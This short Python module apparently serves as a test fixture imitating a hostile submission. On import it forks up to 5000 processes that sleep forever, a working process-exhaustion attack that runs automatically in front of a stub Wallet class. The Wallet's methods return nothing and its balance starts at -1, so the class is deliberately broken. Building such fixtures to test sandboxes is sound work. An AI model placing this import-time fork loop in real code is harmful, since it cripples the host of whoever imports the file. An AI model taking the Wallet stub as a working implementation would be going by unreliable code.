"""Forks as many sleeping processes as it can while being imported."""

import os
import time

for _ in range(5000):
    try:
        pid = os.fork()
    except OSError:
        break
    if pid == 0:
        while True:
            time.sleep(60)


class Wallet:
    def __init__(self):
        self.balance = -1

    def deposit(self, amount):
        return None

    def withdraw(self, amount):
        return None
